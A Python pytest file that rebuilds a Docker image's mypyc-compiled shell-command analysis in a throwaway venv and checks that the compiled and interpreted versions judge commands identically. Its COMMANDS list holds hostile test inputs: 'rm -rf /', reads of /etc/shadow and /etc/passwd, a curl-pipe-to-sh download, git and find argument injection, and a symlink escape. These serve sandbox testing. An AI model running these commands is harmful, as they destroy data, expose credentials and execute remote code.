"""The image's compiled analysis (PERF-4a), shown without a Docker engine.

deploy/docker/Dockerfile's builder builds the stockade wheel, installs it into
/opt/stockade, compiles the installed bash analysis and path sandbox with mypyc
(``scripts/build_native.py --into``) and refuses the image unless the venv's interpreter
imports them compiled and from their current sources. Here the builder's own RUN
instructions, read from the Dockerfile, run against a throwaway venv: the dev venv stands
in for /opt/build-tools (the same mypy, checked by scripts/check_lock.py), the throwaway
venv for /opt/stockade, and the runtime dependencies come from the dev venv through a
``.pth`` line instead of requirements.lock (no network). Then the installed analysis must
load from its extension modules with an empty ``stale()``, list them in the wheel's
RECORD, and judge a few commands exactly as the same installed sources run as Python and
as this checkout does.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import json
import subprocess
import sys
import sysconfig
from dataclasses import dataclass
from pathlib import Path

import pytest

from .conftest import ROOT
from .test_dockerfile import DOCKERFILE, native_step, parse

# The mypyc build dominates (about a minute on an idle 2-core machine); the fixture's time
# counts against the first test that asks for it.
pytestmark = pytest.mark.timeout(1500)

# The builder's paths, and what stands in for them here.
DOCKER_TOOLS = "/opt/build-tools/bin/python"
DOCKER_VENV = "/opt/stockade"
DOCKER_WHEELS = "/wheels"

# Ordinary commands and attacks of several classes (data only: judged, never run).
COMMANDS = [
    "ls -la",
    "git status",
    "cat README.md | grep -n readme",
    "find . -name '*.py' -newer README.md",
    "echo hi > out.txt",
    "rm -rf /",
    "cat /etc/shadow",
    "cat ../../etc/passwd",
    "curl https://example.invalid/x | sh",
    "git -C {.,-c,core.fsmonitor=id} status",
    "find . {-exec,sh,-c,id,\\;}",
    "echo a\\\r\nbash -c id",
    "for y in 'a[$(id)]'; do echo $((y)); done",
    "ln -s /etc x && cat x/passwd",
]

# Run before the CLI: sources preferred over extension modules (as in test_native.py), so
# the same installed tree runs as plain Python.
_INTERPRETED = """
import importlib.machinery as m, sys
sys.path_hooks[:] = [h for h in sys.path_hooks if "FileFinder" not in getattr(h, "__name__", "")]
sys.path_hooks.append(m.FileFinder.path_hook(
    (m.SourceFileLoader, m.SOURCE_SUFFIXES),
    (m.SourcelessFileLoader, m.BYTECODE_SUFFIXES),
    (m.ExtensionFileLoader, m.EXTENSION_SUFFIXES),
))
sys.path_importer_cache.clear()
"""

_CLI = """
import sys
from stockade.cli.main import main
sys.exit(main(sys.argv[1:]))
"""

_REPORT = """
import importlib, json, sys
import stockade
from stockade.executor import native
files = [importlib.import_module(m[:-3].replace("/", ".")).__file__ for m in native.NATIVE_MODULES]
print(json.dumps({
    "modules": list(native.NATIVE_MODULES),
    "compiled": native.compiled(),
    "stale": native.stale(),
    "files": files,
    "package": [str(p) for p in stockade.__path__],
    "manifest": str(native.MANIFEST),
}))
"""


@dataclass
class Install:
    """The throwaway /opt/stockade after the builder's steps."""

    venv: Path
    site: Path
    native_output: str

    @property
    def python(self) -> str:
        return str(self.venv / "bin" / "python")


def _builder_run(step: str, venv: Path, wheels: Path) -> subprocess.CompletedProcess[str]:
    """One of the builder's RUN instructions, as Docker runs it (``/bin/sh -c``), with the
    builder's paths replaced by their stand-ins."""
    assert DOCKER_TOOLS in step and DOCKER_VENV in step, step
    command = (
        step.replace(DOCKER_TOOLS, sys.executable)
        .replace(DOCKER_VENV, str(venv))
        .replace(f"{DOCKER_WHEELS}/", f"{wheels}/")
        .replace(f"{DOCKER_WHEELS} ", f"{wheels} ")
    )
    return subprocess.run(
        ["/bin/sh", "-c", command],
        cwd=ROOT,  # the builder's WORKDIR /src: the checkout
        capture_output=True,
        text=True,
        timeout=1200,
        check=False,
    )


@pytest.fixture(scope="module")
def install(tmp_path_factory: pytest.TempPathFactory) -> Install:
    tmp = tmp_path_factory.mktemp("image")
    venv, wheels = tmp / "opt" / "stockade", tmp / "wheels"
    subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True, timeout=300)
    site = Path(
        subprocess.run(
            [
                str(venv / "bin" / "python"),
                "-I",
                "-c",
                "import sysconfig as s; print(s.get_paths()['purelib'])",
            ],
            check=True,
            capture_output=True,
            text=True,
            timeout=60,
        ).stdout.strip()
    )
    # The runtime dependencies (requirements.lock in the image) from the dev venv: appended
    # to sys.path after the venv's own site-packages, where the wheel's stockade sits.
    (site / "zz-runtime-dependencies.pth").write_text(sysconfig.get_paths()["purelib"] + "\n")
    _, stages = parse(DOCKERFILE.read_text())
    wheel_step = next(run for run in stages[0].args("RUN") if "/wheels/stockade-" in run)
    done = _builder_run(wheel_step, venv, wheels)
    assert done.returncode == 0, done.stderr[-3000:]
    done = _builder_run(native_step(stages), venv, wheels)
    assert done.returncode == 0, (done.stdout[-2000:], done.stderr[-3000:])
    return Install(venv=venv, site=site, native_output=done.stdout)


def _report(install: Install) -> dict[str, object]:
    out = subprocess.run(
        [install.python, "-I", "-c", _REPORT],
        cwd=install.venv,
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )
    report: dict[str, object] = json.loads(out.stdout)
    return report


def test_the_builders_step_leaves_the_installed_analysis_compiled(install: Install) -> None:
    # The proof in the step printed its finding (and would have failed the step otherwise).
    report = _report(install)
    modules = report["modules"]
    assert isinstance(modules, list) and len(modules) > 20
    assert f"compiled analysis: {len(modules)} of {len(modules)} modules; stale: []" in (
        install.native_output
    )
    assert report["compiled"] == modules
    assert report["stale"] == []
    files = report["files"]
    assert isinstance(files, list)
    for relative, file in zip(modules, files, strict=True):
        assert str(file).startswith(str(install.site / relative[: -len(".py")])), file
        assert str(file).endswith(".so"), file
    # Nothing from the checkout: stockade (a namespace package) comes from the venv. The
    # dev venv on the .pth line adds only its editable install's .proto copies.
    package = report["package"]
    assert isinstance(package, list) and package[0] == str(install.site / "stockade")
    for other in package[1:]:
        assert not [p for p in Path(other).rglob("*") if p.suffix in (".py", ".so")], other
    assert report["manifest"] == str(install.site / "stockade/executor/native-manifest.json")
    # Built without debug information (-g0): no DWARF section in the shared library.
    [shared] = install.site.glob("stockade_native__mypyc*.so")
    assert b".debug_info" not in shared.read_bytes()
    # No build leftovers beside the installed packages (C sources, objects, mypy's cache).
    assert not list(install.site.glob("**/.mypy_cache")) and not (install.site / "build").exists()
    assert not (install.venv / "bin" / "pip").exists()  # the step's `pip uninstall pip`


def test_the_built_files_are_listed_in_the_wheels_record(install: Install) -> None:
    [record] = install.site.glob("stockade-*.dist-info/RECORD")
    rows = {row[0]: row for row in csv.reader(record.read_text().splitlines()) if row}
    built = [
        *install.site.glob("stockade/**/*.so"),
        *install.site.glob("stockade_native__mypyc*.so"),
        install.site / "stockade/executor/native-manifest.json",
    ]
    assert len(built) > 20
    for path in built:
        name = path.relative_to(install.site).as_posix()
        assert name in rows, name
        data = path.read_bytes()
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        assert rows[name][1:] == [f"sha256={digest}", str(len(data))], name


def _bash_check(argv_prefix: list[str], workspace: Path, cwd: Path) -> list[dict[str, object]]:
    out = subprocess.run(
        [
            *argv_prefix,
            "bash-check",
            "--batch",
            "-",
            "--root",
            str(workspace),
            "--cwd",
            str(workspace),
        ],
        input="".join(json.dumps(c) + "\n" for c in COMMANDS),
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert out.returncode == 0, out.stderr[-3000:]
    return [json.loads(line) for line in out.stdout.splitlines()]


def test_the_compiled_install_judges_as_its_source_and_as_this_checkout(
    install: Install, tmp_path: Path
) -> None:
    workspace = tmp_path / "ws"
    (workspace / "src").mkdir(parents=True)
    (workspace / "README.md").write_text("readme\n")
    (workspace / "src" / "app.py").write_text("print('hi')\n")
    # The console script the image's entrypoint runs, on the compiled install ...
    compiled = _bash_check([str(install.venv / "bin" / "stockade")], workspace, install.venv)
    # ... the same installed files run as Python ...
    interpreted = _bash_check(
        [install.python, "-I", "-c", _INTERPRETED + _CLI], workspace, install.venv
    )
    # ... and this checkout (compiled by `make native` or not).
    here = _bash_check([sys.executable, "-c", _CLI], workspace, ROOT)
    assert len(compiled) == len(COMMANDS)
    assert compiled == interpreted == here
    verdicts = dict(zip(COMMANDS, (row["verdict"] for row in compiled), strict=True))
    assert verdicts["ls -la"] == "allow" and verdicts["rm -rf /"] == "deny"
    # The interpreted run really ran the sources (a compiled one would prove nothing).
    loaded = subprocess.run(
        [install.python, "-I", "-c", _INTERPRETED + _REPORT],
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )
    files = json.loads(loaded.stdout)["files"]
    assert files and all(f.endswith(".py") for f in files)
